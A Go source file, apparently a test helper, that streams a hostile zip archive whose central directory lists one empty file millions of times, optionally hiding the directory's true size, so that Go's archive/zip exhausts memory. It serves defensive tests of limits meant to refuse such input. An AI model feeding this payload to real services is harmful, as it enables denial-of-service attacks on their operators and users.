// Package hostilezip writes the zip streams of issue 41's red team, for tests of the limits
// that refuse them: an archive whose central directory lists one small file millions of times.
// Go's archive/zip accepts such a stream and holds every record of its directory in memory
// (about 250 bytes each), so a reader that parses the directory before it counts it can be
// made to allocate gigabytes by a few hundred megabytes of input.
//
// # The stream
//
// Stream yields, without holding it in memory: one local file header (an empty file stored
// under Options.Name), then Options.Entries central directory records that all point at it,
// then the end-of-directory record. The end record declares the entries modulo 65,536 (as
// archive/zip compares them) and the directory's true size, or with Options.HideSize the size
// of one record, so that only a reader that walks the directory finds how large it is.
package hostilezip

import (
	"bytes"
	"encoding/binary"
	"io"
)

// Options describe a hostile stream.
type Options struct {
	Entries int    // directory records; the red team's: 4,000,000
	Name    string // the file's name in every record; "" is "aaaaaaaaa" (nine bytes: 55 per record)
	// HideSize declares a directory of one record in the end record.
	HideSize bool
}

// Size is the length of the stream Stream(o) yields.
func Size(o Options) int64 {
	name := o.name()
	return int64(30+len(name)) + int64(o.Entries)*int64(46+len(name)) + 22
}

func (o Options) name() string {
	if o.Name == "" {
		return "aaaaaaaaa"
	}
	return o.Name
}

// Stream returns the hostile zip stream o describes; it is generated as it is read.
func Stream(o Options) io.Reader {
	name := []byte(o.name())
	le := binary.LittleEndian
	local := make([]byte, 30, 30+len(name))
	le.PutUint32(local[0:], 0x04034b50)
	le.PutUint16(local[4:], 20) // version needed
	le.PutUint16(local[26:], uint16(len(name)))
	local = append(local, name...)

	record := make([]byte, 46, 46+len(name))
	le.PutUint32(record[0:], 0x02014b50)
	le.PutUint16(record[4:], 20) // version made by
	le.PutUint16(record[6:], 20) // version needed
	le.PutUint16(record[28:], uint16(len(name)))
	record = append(record, name...) // local header offset 0, method 0 (stored), size 0

	dirSize := int64(o.Entries) * int64(len(record))
	declared := dirSize
	if o.HideSize {
		declared = int64(len(record))
	}
	end := make([]byte, 22)
	le.PutUint32(end[0:], 0x06054b50)
	le.PutUint16(end[8:], uint16(o.Entries))
	le.PutUint16(end[10:], uint16(o.Entries))
	le.PutUint32(end[12:], uint32(declared))
	le.PutUint32(end[16:], uint32(len(local))) // a smaller declared size leaves the start found at this offset
	return io.MultiReader(bytes.NewReader(local), &repeated{record: record, left: o.Entries}, bytes.NewReader(end))
}

// repeated yields record left times.
type repeated struct {
	record []byte
	left   int
	at     int // offset in the record being yielded
}

func (r *repeated) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) && r.left > 0 {
		c := copy(p[n:], r.record[r.at:])
		n += c
		if r.at += c; r.at == len(r.record) {
			r.at, r.left = 0, r.left-1
		}
	}
	if n == 0 {
		return 0, io.EOF
	}
	return n, nil
}
